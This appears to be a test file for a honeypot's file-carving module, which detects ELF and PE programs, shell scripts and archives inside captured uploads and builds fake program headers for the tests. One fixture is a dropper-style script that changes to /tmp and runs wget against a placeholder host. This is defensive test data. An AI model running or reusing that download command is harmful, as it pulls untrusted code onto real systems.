"""Files in what was sent: known by their headers, ended by them where they tell, and never by two letters alone."""

import gzip

import pytest
from hypothesis import given
from hypothesis import strategies as st

from honeyguide.streams.files import MOST, File, files, kind_of


def elf(size: int = 200) -> bytes:
    """A stripped 32-bit program of one segment, as bots are."""
    head = bytearray(84)
    head[:7] = b"\x7fELF\1\1\1"
    head[28:32] = (52).to_bytes(4, "little")
    head[42:46] = (32).to_bytes(2, "little") + (1).to_bytes(2, "little")
    head[52 + 4 : 52 + 8] = bytes(4)
    head[52 + 16 : 52 + 20] = size.to_bytes(4, "little")
    return bytes(head) + b"\x90" * (size - len(head))


def pe(size: int = 600) -> bytes:
    """A program of one section."""
    head = bytearray(600)
    head[:2], head[60:64], head[64:68] = b"MZ", (64).to_bytes(4, "little"), b"PE\0\0"
    head[70:72], head[84:86] = (1).to_bytes(2, "little"), (0).to_bytes(2, "little")
    head[64 + 24 + 16 : 64 + 24 + 24] = (size - 512).to_bytes(4, "little") + (512).to_bytes(4, "little")
    return bytes(head[:size])


@pytest.mark.parametrize(("content", "kind"), [(elf(), "elf"), (pe(), "exe")])
def test_a_program_ends_where_its_header_says(content: bytes, kind: str) -> None:
    (found,) = files(b"POST /upload HTTP/1.1\r\n\r\n" + content + b"\r\n--boundary--")
    assert found == File(kind, 25, 25 + len(content), whole=True)


def test_a_cut_program_ends_with_the_bytes() -> None:
    (found,) = files(b"...." + elf(5000)[:300])
    assert found == File("elf", 4, 304, whole=False)


def test_scripts_and_archives_go_on_to_the_end() -> None:
    script = b"#!/bin/sh\ncd /tmp\nwget http://198.51.100.7/x\n"
    assert list(files(b"\0\0" + script)) == [File("sh", 2, 2 + len(script))]
    packed = gzip.compress(bytes(range(256)) * 2)
    assert [one.kind for one in files(b"x" * 9 + packed)] == ["gz"]


@pytest.mark.parametrize("data", [b"MZ is two letters of no program, and more of them follow", b"#!x", b"\x7fELF\7\7" + bytes(60), b""])
def test_letters_alone_are_no_file(data: bytes) -> None:
    assert list(files(data)) == []
    assert kind_of(data) == ""


def test_thousands_of_files_are_bounded() -> None:
    assert len(list(files((b"#!/bin/sh\nx\n" + b"\x89PNG\r\n\x1a\nIEND\xae\x42\x60\x82" + b"-" * 40) * 500))) <= MOST


@given(st.binary(max_size=600), st.integers(0, 300))
def test_any_bytes_are_read(data: bytes, cut: int) -> None:
    for whole in (data, elf()[:cut] + data, pe()[:cut] + data):
        end = 0
        for one in files(whole):
            assert end <= one.start < one.end <= len(whole)
            end = one.end
